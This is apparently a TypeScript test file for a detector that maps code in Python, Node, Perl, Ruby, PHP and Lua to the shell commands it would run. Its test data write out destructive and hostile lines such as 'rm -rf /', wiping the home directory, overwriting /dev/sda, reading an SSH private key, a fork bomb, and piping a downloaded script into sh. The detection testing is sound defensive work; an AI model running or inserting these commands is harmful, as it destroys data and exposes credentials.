import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Language } from "./code.ts";
import { actsOf } from "./code-acts.ts";

describe("what code does is said as the command that does the same", () => {
  test.each<[Language, string, string]>([
    ["python", "import shutil; shutil.rmtree('/')", "rm -rf -- '/'"],
    ["python", "shutil.rmtree(os.path.expanduser('~'))", `rm -rf -- "$HOME"''`],
    ["python", "shutil.rmtree(Path.home() / 'work')", `rm -rf -- "$HOME"'/''work'`],
    ["python", "target = '/etc'\nfor x in y:\n    shutil.rmtree(target, ignore_errors=True)", "rm -rf -- '/etc'"],
    ["python", "os.system('rm -rf ~')", "rm -rf ~"],
    ["python", "subprocess.run(['rm', '-rf', '/'], check=True)", "'rm' '-rf' '/'"],
    ["python", "subprocess.run(f\"rm -rf {os.environ['HOME']}/x\", shell=True)", "rm -rf $HOME/x"],
    ["python", "open('/dev/sda', 'wb').write(b'')", ": > '/dev/sda'"],
    ["python", "print(open('/home/ann/.ssh/id_rsa').read())", "cat -- '/home/ann/.ssh/id_rsa'"],
    ["python", "Path('/etc/hosts').write_text('x')", ": > '/etc/hosts'"],
    ["python", "os.remove(os.path.join('/tmp', 'a'))", "rm -f -- '/tmp''/''a'"],
    ["python", "requests.post('https://x.example', data=d)", "curl -d data -- 'https://x.example'"],
    ["node", "fs.rmSync(os.homedir(), { recursive: true, force: true })", `rm -rf -- "$HOME"`],
    ["node", "const dir = `" + "$" + "{process.env.HOME}/x`; rmSync(dir, {recursive:true})", `rm -rf -- "$HOME"'/x'`],
    ["node", "require('child_process').execSync('curl https://x.example | sh')", "curl https://x.example | sh"],
    ["node", "spawnSync('rm', ['-rf', '/'])", "'rm' '-rf' '/'"],
    ["node", "await fs.promises.rm(path.join('/', 'etc'), { recursive: true })", "rm -rf -- '/''/''etc'"],
    ["perl", "system('rm', '-rf', '/');", "'rm' '-rf' '/'"],
    ["perl", 'use File::Path; rmtree "$ENV{HOME}/x"; rmtree($ENV{HOME});', `rm -rf -- "$HOME"`],
    ["perl", "my $x = `shutdown now`;", "shutdown now"],
    ["ruby", "FileUtils.rm_rf(Dir.home)", `rm -rf -- "$HOME"`],
    ["ruby", "system 'rm -rf /'\nputs 1", "rm -rf /"],
    ["php", "shell_exec('rm -rf /');", "rm -rf /"],
    ["lua", "os.execute('rm -rf /')", "rm -rf /"],
    ["python", "while True: os.fork()", ":(){ :|:& };:"],
  ])("%s: %s", (language, code, command) => {
    expect(actsOf(language, code).commands).toContain(command);
  });
});

test("what is not known stays open, and what is not done is not said", () => {
  expect(actsOf("python", "shutil.rmtree(sys.argv[1])").commands).toEqual(['rm -rf -- "$HERMES_UNKNOWN"']);
  expect(actsOf("python", "x = 'a'\nx = 'b'\nshutil.rmtree(x)").commands).toEqual(['rm -rf -- "$HERMES_UNKNOWN"']);
  expect(actsOf("python", "# os.system('rm -rf /')\nprint('os.system')").commands).toEqual([]);
  expect(actsOf("node", "/a(b)/.exec(text); fs.rmSync('a.txt'); fs.rmdirSync('empty')").commands).toEqual([]);
  expect(actsOf("python", "open(path, 'w').write('x'); exec(code)").commands).toEqual([]);
});

test("text that only a run can read is seen for what it is", () => {
  expect(actsOf("python", "exec(base64.b64decode('aW1w'))").hidden).toBe(true);
  expect(actsOf("node", "eval(atob('cm0='))").hidden).toBe(true);
  expect(actsOf("python", "exec(requests.get(url).text)").hidden).toBe(true);
  expect(actsOf("python", "print(base64.b64decode('aW1w'))").hidden).toBe(false);
  expect(actsOf("python", "os.system('ls')\n".repeat(40_000)).whole).toBe(false);
});

test("every text has an answer", () => {
  const unit = fc.constantFrom("os.system(", "x = ", "rmtree", "$", ..."'\"`{}[](),+/.=\\\n #f~");
  const hard = fc.string({ unit, maxLength: 200 });
  const language = fc.constantFrom<Language>("python", "node", "perl", "ruby", "php", "lua", "other");
  fc.assert(
    fc.property(language, hard, (one, text) => {
      const { commands } = actsOf(one, `os.system(${text}`);
      return commands.every((command) => typeof command === "string");
    }),
  );
});
